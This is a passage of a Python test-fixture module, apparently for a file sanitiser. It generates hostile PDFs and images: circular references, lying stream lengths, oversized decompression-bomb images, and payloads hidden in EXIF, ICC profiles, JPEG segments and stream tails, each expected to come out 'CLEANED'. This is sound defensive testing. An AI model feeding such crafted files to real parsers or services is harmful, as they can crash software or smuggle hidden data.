        "an unknown filter": document(more={4: stream(PAYLOAD, b"/Filter /EvilDecode")}),
        "a filter that asks for a key": document(
            more={4: stream(PAYLOAD, b"/Filter /Crypt /DecodeParms << /Name /Evil >>")}
        ),
        "objects that are each other": document(more={4: b"8 0 R", 8: b"4 0 R"}),
        "a wrong table": whole.replace(b"0000000009", b"0000000999"),
        "no table": whole.split(b"xref")[0],
        "a table that leads to itself": whole.replace(
            b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % whole.rindex(b"xref\n0")
        ),
        "a length that is a lie": document(more={4: stream(b"0 0 1 1 re f", length=10**12)}),
        "a negative length": document(more={4: stream(b"0 0 1 1 re f", length=-5)}),
        "a page without an end": document(
            page=b"/MediaBox [0 0 1e30 1e30] /Rotate 45 /UserUnit 1e30 /Evil (" + PAYLOAD + b")"
        ),
        "a page that is no rectangle": document(page=b"/MediaBox [(a) (b) (c) (d)] /Evil (" + PAYLOAD + b")"),
    }
    yield from (Hostile(f"pdf with {name}", content, "CLEANED") for name, content in mended.items())


def _pdf_images() -> Iterator[Hostile]:
    """Pictures in documents: files in a file."""
    exif = saved(picture(), "JPEG", exif=_exif(), icc_profile=_profile(), comment=PAYLOAD)
    yield Hostile("pdf with gps in its picture", _pdf_with_image(exif, b"/Filter /DCTDecode"), "CLEANED")
    yield Hostile("pdf with a tail of its picture", _pdf_with_image(jpeg() + PAYLOAD, b"/Filter /DCTDecode"), "CLEANED")
    yield Hostile(
        "pdf with data in its picture",
        _pdf_with_image(_segment(jpeg(), 0xEF, PAYLOAD), b"/Filter /DCTDecode"),
        "CLEANED",
    )
    hexed = (_segment(jpeg(), 0xFE, PAYLOAD)).hex().encode() + b">"
    yield Hostile(
        "pdf with a wrapped picture", _pdf_with_image(hexed, b"/Filter [/ASCIIHexDecode /DCTDecode]"), "CLEANED"
    )
    second = saved(picture(), "JPEG2000") + PAYLOAD
    yield Hostile("pdf with jpeg 2000", _pdf_with_image(second, b"/Filter /JPXDecode"), "CLEANED")
    pixels = picture().tobytes()
    profile = {8: stream(_profile() + PAYLOAD, b"/N 3 /Alternate /DeviceRGB")}
    coloured = _pdf_with_image(zlib.compress(pixels), b"/Filter /FlateDecode", b"[/ICCBased 8 0 R]", profile)
    yield Hostile("pdf with a profile", coloured, "CLEANED")
    words = b"/Filter /FlateDecode /Metadata 8 0 R /Evil (" + PAYLOAD + b")"
    yield Hostile(
        "pdf with words about its picture",
        _pdf_with_image(zlib.compress(pixels), words, more={8: stream(PAYLOAD)}),
        "CLEANED",
    )
    yield Hostile(
        "pdf with a tail of its stream",
        _pdf_with_image(zlib.compress(pixels) + PAYLOAD, b"/Filter /FlateDecode"),
        "CLEANED",
    )
    yield Hostile("pdf with html for a picture", _pdf_with_image(HTML, b"/Filter /DCTDecode"), "CLEANED")
    yield Hostile("pdf with jbig2", _pdf_with_image(PAYLOAD, b"/Filter /JBIG2Decode"), "CLEANED")
    yield Hostile("pdf with a broken jpeg 2000", _pdf_with_image(PAYLOAD, b"/Filter /JPXDecode"), "CLEANED")
    yield Hostile(
        "pdf with a large picture", _pdf_with_image(b"", b"/Filter /FlateDecode", size=(50_000, 50_000)), "CLEANED"
    )
    yield Hostile("pdf with a large jpeg", _pdf_with_image(_jpeg_of(20_000, 20_000), b"/Filter /DCTDecode"), "CLEANED")
    yield Hostile(
        "pdf with a fax that is none",
        _pdf_with_image(PAYLOAD, b"/Filter /CCITTFaxDecode /DecodeParms << /K 4 >>"),
        "CLEANED",
    )


# --- parts ----------------------------------------------------------------------------------------------------------


def _zip(content: bytes = PAYLOAD, name: str = "evil.txt") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return out.getvalue()


def _exif() -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = PAYLOAD.decode()
    exif.get_ifd(0x8825).update({1: "N", 2: (52.0, 31.0, 12.0), 3: "E", 4: (13.0, 24.0, 18.0), 29: PAYLOAD.decode()})
    exif.get_ifd(0x8769)[0x9286] = PAYLOAD
    return exif


@cache
def _profile() -> bytes:
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes() + PAYLOAD


def _segment(content: bytes, marker: int, data: bytes) -> bytes:
    """The JPEG with a segment more, right behind its beginning."""
    return content[:2] + bytes((0xFF, marker)) + struct.pack(">H", len(data) + 2) + data + content[2:]


def _jpeg_of(width: int, height: int) -> bytes:
    """A JPEG that says it were so large."""
    content = bytearray(jpeg())
    frame = content.index(b"\xff\xc0")
    content[frame + 5 : frame + 9] = struct.pack(">HH", height, width)
    return bytes(content)


def _chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def _with_chunk(content: bytes, name: bytes, data: bytes) -> bytes:
    return _with_chunks(content, [(name, data)])


def _with_chunks(content: bytes, chunks: list[tuple[bytes, bytes]]) -> bytes:
    """The PNG with more chunks behind its head."""
    return content[:33] + b"".join(_chunk(name, data) for name, data in chunks) + content[33:]


def _png_of(
    width: int, height: int, depth: int, colour: int, pixels: bytes | None = None, *, squeeze: bool = True
) -> bytes:
    """A PNG of that size, as far as its head says."""
    head = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    data = b"\0" * min(width * height, 1_000_000) if pixels is None else pixels
    parts = [_chunk(b"IHDR", head), _chunk(b"IDAT", zlib.compress(data) if squeeze else data), _chunk(b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def _riff(body: bytes) -> bytes:
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body


def _sized(data: bytes) -> bytes:
    return struct.pack("<I", len(data)) + data + b"\0" * (len(data) % 2)


def encrypted(algorithm: str, password: str) -> bytes:
    """A document that opens with the password: by itself if that is empty, and then with another one as its owner's."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(document())))
    writer.encrypt(password, "owner", algorithm=algorithm)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _packed(catalog: bytes) -> bytes:
    """A document whose catalog stands in a stream of objects, with a stream for its table."""
    kids = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    packed = b"1 0 2 %d " % (len(catalog) + 1) + catalog + b" " + kids
    first = packed.index(catalog)
    out, places = b"%PDF-1.7\n", {}
    bodies = {
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 300] >>",
        5: stream(zlib.compress(packed), b"/Type /ObjStm /N 2 /First %d /Filter /FlateDecode" % first),
    }
    for number, body in bodies.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    rows = [(0, 0, 65535), (2, 5, 0), (2, 5, 1), (1, places[3], 0), (0, 0, 0), (1, places[5], 0), (1, start, 0)]
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    out += b"6 0 obj\n" + stream(table, b"/Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R") + b"\nendobj\n"
    return out + b"startxref\n%d\n%%%%EOF\n" % start


def _pdf_with_image(
    content: bytes,
    members: bytes,
    colours: bytes = b"/DeviceRGB",
    more: dict[int, bytes] | None = None,
    size: tuple[int, int] = (60, 40),
) -> bytes:
    picture_of = b"/Type /XObject /Subtype /Image /Width %d /Height %d /BitsPerComponent 8 /ColorSpace " % size
    image = stream(content, picture_of + colours + b" " + members)
    drawn = b"q 100 0 0 100 0 0 cm /Im Do Q"
    return document(contents=drawn, resources=b"/XObject << /Im 7 0 R >>", more={7: image, **(more or {})})
